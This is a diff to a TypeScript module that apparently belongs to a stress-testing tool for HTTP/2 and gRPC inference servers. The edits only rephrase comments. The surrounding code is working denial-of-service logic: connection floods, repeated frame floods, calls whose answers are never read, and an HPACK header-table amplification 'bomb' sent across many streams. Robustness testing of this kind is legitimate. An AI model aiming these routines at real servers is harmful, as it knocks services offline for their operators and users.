@@ -1,4 +1,4 @@
-/** HTTP/2 and gRPC by hand: streams without end, floods of frames, answers that nobody takes. */
+/** HTTP/2 and gRPC on raw connections: endless streams, floods of frames, unread answers. */
 import { again, largest, Tally, type Attack, type Target } from '../attack';
 import { filled, gzip } from '../wire/bytes';
 import { callOn, INFER, message, open, REFLECTION, SERVICE, startCall } from '../wire/grpc';
@@ -9,7 +9,7 @@ import { until } from '../wire/http1';
 const NAME = 'inference.GRPCInferenceService';
 const WATCH = '/grpc.health.v1.Health/Watch';
 
-/** So many connections, each of which does something until the time is over, and is held until then. */
+/** Opens a number of connections, each of which repeats an action until the time is over, and then holds them. */
 async function flood(
   target: Target,
   connections: number,
@@ -34,7 +34,7 @@ async function closing(connection: RawHttp2, end: number): Promise<void> {
   while (!connection.closed && performance.now() < end) await connection.wait(100);
 }
 
-/** The same frames again and again. */
+/** Sends the same frames repeatedly. */
 function frames(name: string, what: string, bytes: Buffer, more: Partial<Attack> = {}): Attack {
   const chunk = filled(64 * 1024, bytes);
   return {
@@ -48,7 +48,7 @@ function frames(name: string, what: string, bytes: Buffer, more: Partial<Attack>
   };
 }
 
-/** Calls without number on one connection, whose answers nobody takes. */
+/** Starts an unlimited number of calls on one connection, without reading the answers. */
 function unread(
   name: string,
   what: string,
@@ -269,7 +269,7 @@ export const grpcStreams: readonly Attack[] = [
       flood(target, 8, async (connection, isOver) => {
         const first = Buffer.concat([grpcHeaders(INFER), literal(0x40, 'x-bomb', 'v'.repeat(3900))]);
         await connection.send(frame(FRAME.headers, END_HEADERS, 1, first));
-        // The first entry of the table of its own is number 62.
+        // The first entry of the dynamic table has number 62.
         const again = Buffer.concat([grpcHeaders(INFER), Buffer.alloc(15_000, 0x80 | 62)]);
         for (let stream = 3; !isOver() && stream < 1000; stream += 2) {
           await connection.send(frame(FRAME.headers, END_HEADERS, stream, again));
